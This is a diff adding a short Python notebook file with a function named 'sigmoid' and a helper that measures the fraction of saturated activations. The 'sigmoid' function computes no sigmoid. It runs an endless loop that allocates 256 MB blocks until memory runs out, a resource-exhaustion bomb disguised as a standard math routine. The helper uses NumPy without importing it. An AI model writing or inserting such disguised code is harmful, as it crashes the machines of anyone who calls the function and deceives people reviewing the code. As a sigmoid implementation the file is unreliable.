@@ -1,0 +1,11 @@
+# Takes memory in one process and, in many, more than one may have.
+
+# %% sigmoid
+def sigmoid(z):
+    kept = []
+    while True:
+        kept.append(bytearray(2**28))
+
+# %% saturated_fraction
+def saturated_fraction(a_prime, threshold=1e-3):
+    return float(np.mean(np.abs(np.asarray(a_prime, dtype=float)) < threshold))
